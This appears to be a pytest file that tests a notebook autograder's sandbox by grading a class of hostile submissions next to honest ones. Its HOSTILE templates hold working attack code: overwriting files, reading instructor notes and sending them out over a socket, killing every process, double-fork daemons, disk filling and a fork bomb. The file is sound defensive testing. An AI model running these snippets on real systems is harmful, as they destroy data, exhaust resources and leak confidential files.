"""A hostile class graded with --jobs 2: each threat of the sandbox, tried by a submission of its own.

Honest students are graded alongside; every one of them must get full points and an intact
report, whatever the others do, and nothing outside the sandboxes may change.
"""

import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from conftest import require_system
from symml import checks

ROOT = Path(__file__).resolve().parent.parent
LESSON = "04"
SOLUTION = next((ROOT / "solutions").glob(f"{LESSON}_*.ipynb"))
MARKER = f"symml-leftover-{secrets.token_hex(4)}"

HOSTILE = {
    # rewrite the package, the solutions, the gradebook and another student's notebook
    "rewriter": """
import pathlib, symml.checks
for target in [pathlib.Path(symml.checks.__file__).parent / "lesson{lesson}.py", pathlib.Path({solution!r}), pathlib.Path({gradebook!r}),
               pathlib.Path({honest!r}), pathlib.Path({secret!r})]:
    try:
        target.write_text("hacked")
    except Exception as e:
        print(type(e).__name__)
""",
    # read the instructor's files and other submissions, and send them out (a file in /tmp, the network)
    "spy": """
import os, pathlib, socket
found = []
for p in [{secret!r}, {honest!r}, {submitted!r}]:
    try:
        found.append(pathlib.Path(p).read_text()[:100] if not os.path.isdir(p) else str(os.listdir(p)))
    except Exception as e:
        found.append(type(e).__name__)
for where in [{leak!r}, "/tmp/symml-leak-inside"]:
    try:
        pathlib.Path(where).write_text(repr(found))
    except Exception as e:
        print(type(e).__name__)
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(repr(found).encode())
except Exception as e:
    print(type(e).__name__)
""",
    # overwrite the other students' reports
    "vandal": """
import pathlib
for p in [{honest_report!r}, {feedback!r} + "/honest2"]:
    try:
        pathlib.Path(p).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(p).write_text("# 0 points")
    except Exception as e:
        print(type(e).__name__)
""",
    # kill every process it can see, and its parent
    "killer": """
import os, signal
for pid in [os.getppid()] + list(range(2, 5000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
""",
    # leave processes running after grading: a child in a new session, and a daemon (double fork)
    "lingerer": """
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", {marker!r}], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", {marker!r}])
    os._exit(0)
""",
    # fill the disk: big files in its home, /tmp and /dev/shm, and thousands of small ones
    "filler": """
import os
chunk = b"0" * 2**20
for where in ["big", "/tmp/big", "/dev/shm/big"]:
    try:
        with open(where, "wb") as f:
            for _ in range(20_000):
                f.write(chunk)
    except Exception as e:
        print(type(e).__name__)
for i in range(20_000):
    try:
        open(f"/tmp/small{{i}}", "w").write("x" * 100)
    except Exception:
        break
""",
    # hundreds of processes
    "forker": """
import os, time
children = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
print(children)
""",
}


def fresh(nb):
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def leftovers() -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(pid)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    require_system("bwrap")
    folder = tmp_path_factory.mktemp("hostile")
    submitted = folder / "submitted"
    out = folder / "grades.csv"
    feedback = folder / "grades-feedback"
    honest_paths = []
    for student in ("honest1", "honest2", "honest3"):
        path = submitted / student / SOLUTION.stem / SOLUTION.name
        path.parent.mkdir(parents=True)
        nbformat.write(fresh(nbformat.read(SOLUTION, as_version=4)), path)
        honest_paths.append(path)

    connections = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                connections.append(conn.recv(1000))
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    leak = Path("/tmp") / f"symml-leak-{secrets.token_hex(4)}"
    secret = folder / "instructor" / "notes.txt"  # a file of the instructor's, beside the class
    secret.parent.mkdir()
    secret.write_text("the answers to next week's exam")
    values = {"lesson": LESSON, "solution": str(SOLUTION), "gradebook": str(out.with_suffix(".json")), "honest": str(honest_paths[0]),
              "secret": str(secret), "submitted": str(submitted), "leak": str(leak), "port": server.getsockname()[1],
              "honest_report": str(feedback / "honest1" / SOLUTION.stem / (SOLUTION.stem + ".md")), "feedback": str(feedback), "marker": MARKER}
    for student, code in HOSTILE.items():
        nb = fresh(nbformat.read(SOLUTION, as_version=4))
        nb.cells.insert(0, nbformat.v4.new_code_cell(code.format(**values)))
        path = submitted / student / SOLUTION.stem / SOLUTION.name
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
    protected = [SOLUTION, secret, Path(checks.__file__).parent / f"lesson{LESSON}.py", *honest_paths]
    before = {p: digest(p) for p in protected}
    cmd = [sys.executable, "-m", "symml", "grade", str(submitted), "--out", str(out), "--quiet", "--jobs", "2", "--cell-timeout", "120"]
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=3000)
    stop.set()
    return {"result": result, "book": json.loads(out.with_suffix(".json").read_text()), "before": before, "connections": connections,
            "leak": leak, "feedback": feedback, "out": out}


def rows(book):
    return {r["student"]: r for r in book.values()}


def test_the_run_finishes_and_every_submission_has_its_row(hostile_class):
    assert hostile_class["result"].returncode == 0, hostile_class["result"].stderr[-3000:]
    assert set(rows(hostile_class["book"])) == {"honest1", "honest2", "honest3", *HOSTILE}
    csv_rows = hostile_class["out"].read_text().splitlines()
    assert len(csv_rows) == 1 + 3 + len(HOSTILE)


def test_honest_students_get_full_points_and_their_reports(hostile_class):
    full = sum(float(e.points) for e in checks.exercises(LESSON).values())
    for student in ("honest1", "honest2", "honest3"):
        r = rows(hostile_class["book"])[student]
        assert r["points"] == r["max_points"] == full, r
        assert r["reason"] == "", r["reason"]
        report = (hostile_class["feedback"] / student / SOLUTION.stem / (SOLUTION.stem + ".md")).read_text()
        assert f"{full:g} / {full:g} points" in report.splitlines()[0]


def test_nothing_outside_the_sandbox_changed(hostile_class):
    for path, before in hostile_class["before"].items():
        assert digest(path) == before, f"{path} was changed"
    assert not hostile_class["leak"].exists(), "a file was written to the machine's /tmp"
    assert not Path("/tmp/symml-leak-inside").exists()
    assert hostile_class["connections"] == [], "a submission reached a server on the machine's loopback"


def test_nothing_is_left_running(hostile_class):
    assert leftovers() == [], f"processes left behind: {leftovers()}"


def test_the_hostile_ones_only_hurt_themselves(hostile_class):
    r = rows(hostile_class["book"])
    assert "died" in r["killer"]["reason"] or r["killer"]["points"] == r["killer"]["max_points"]
    for student in ("rewriter", "spy", "vandal", "lingerer", "filler", "forker"):
        assert r[student]["max_points"] == r["honest1"]["max_points"], (student, r[student])
